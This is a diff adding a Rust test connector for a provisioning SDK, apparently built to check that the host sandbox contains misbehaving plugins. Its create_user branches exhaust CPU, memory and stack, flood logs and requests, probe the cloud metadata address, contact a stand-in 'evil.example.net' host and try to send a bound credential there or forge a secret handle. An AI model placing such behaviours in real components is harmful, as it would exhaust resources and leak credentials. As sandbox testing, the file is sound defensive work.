@@ -1,1 +1,128 @@
+//! A hostile connector. `check` behaves; `create-user` misbehaves in the way
+//! its login names, so one installed component serves every hostile test.
 
+use provisio_sdk::error::{Result, permanent};
+use provisio_sdk::{
+    Account, Connector, Context, ContextExt, Descriptor, NewAccount, Operation, SettingSchema, SettingType, http, log,
+};
+
+pub struct Hostile;
+
+fn target(ctx: &Context) -> Result<String> {
+    Ok(ctx.setting_text("target")?.trim_end_matches('/').to_string())
+}
+
+#[allow(unconditional_recursion)]
+fn recurse(depth: u64) -> u64 {
+    // black_box keeps the optimiser from turning this into a loop.
+    std::hint::black_box(recurse(std::hint::black_box(depth + 1))) + 1
+}
+
+impl Connector for Hostile {
+    fn describe() -> Descriptor {
+        Descriptor {
+            name: "hostile".into(),
+            version: "0.1.0".into(),
+            operations: vec![Operation::Check, Operation::CreateUser],
+            settings: vec![SettingSchema {
+                name: "target".into(),
+                setting_type: SettingType::Url,
+                required: true,
+                description: "The test server.".into(),
+            }],
+            credentials: vec!["api".into()],
+            profile: Vec::new(),
+        }
+    }
+
+    fn check(ctx: Context) -> Result<()> {
+        http::get(format!("{}/ok", target(&ctx)?))
+            .send()?
+            .error_for_status("check")?;
+        Ok(())
+    }
+
+    fn create_user(ctx: Context, user: NewAccount) -> Result<Account> {
+        let target = target(&ctx)?;
+        let auth = ctx.credential("api");
+        match user.login.as_str() {
+            "endless-loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "memory-bomb" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "panic" => panic!("connector bug: the answer was not 42"),
+            "stack-overflow" => {
+                std::hint::black_box(recurse(0));
+            }
+            "undeclared-host" => {
+                http::get("http://undeclared.example.org/").send()?;
+            }
+            "ungranted-host" => {
+                http::get("http://evil.example.net/").send()?;
+            }
+            "metadata" => {
+                http::get("http://169.254.169.254/latest/meta-data/").send()?;
+            }
+            "redirect" => {
+                http::get(format!("{target}/redirect")).send()?;
+            }
+            "big-response" => {
+                http::get(format!("{target}/big")).send()?;
+            }
+            "slow-app" => {
+                http::get(format!("{target}/slow")).send()?;
+            }
+            "log-flood" => {
+                for i in 0..200_000 {
+                    log::info(&format!(
+                        "flooding the log, line {i} ......................................"
+                    ));
+                }
+            }
+            "request-flood" => loop {
+                http::get(format!("{target}/ok")).send()?;
+            },
+            "secret-in-request" => {
+                let secret = auth.ok_or_else(|| permanent("no credential"))?;
+                // The handle is only a number in this component's table: putting
+                // it anywhere sends nothing secret.
+                let handle = secret.handle();
+                http::post(format!("{target}/echo?secret={handle}"))
+                    .body("text/plain", format!("secret={handle}").into_bytes())
+                    .send()?;
+                // Asking the host to write the app credential into a body is refused.
+                http::post(format!("{target}/echo"))
+                    .body("application/json", b"{\"password\": null}".to_vec())
+                    .send_with_secret(secret, "/password")?;
+            }
+            "credential-elsewhere" => {
+                // The credential is bound to the target's origin.
+                http::get("http://evil.example.net/").auth(auth).send()?;
+            }
+            "forged-handle" => {
+                #[allow(unsafe_code)]
+                // SAFETY: deliberately unsound: proves the host refuses a handle it never gave.
+                let forged = unsafe { provisio_sdk::Secret::from_handle(4242) };
+                http::get(format!("{target}/ok")).auth(Some(&forged)).send()?;
+            }
+            other => return Err(permanent(format!("unknown attack {other}"))),
+        }
+        Ok(Account {
+            id: "never".into(),
+            login: None,
+            active: None,
+            profile: Vec::new(),
+        })
+    }
+}
+
+provisio_sdk::export_connector!(Hostile);
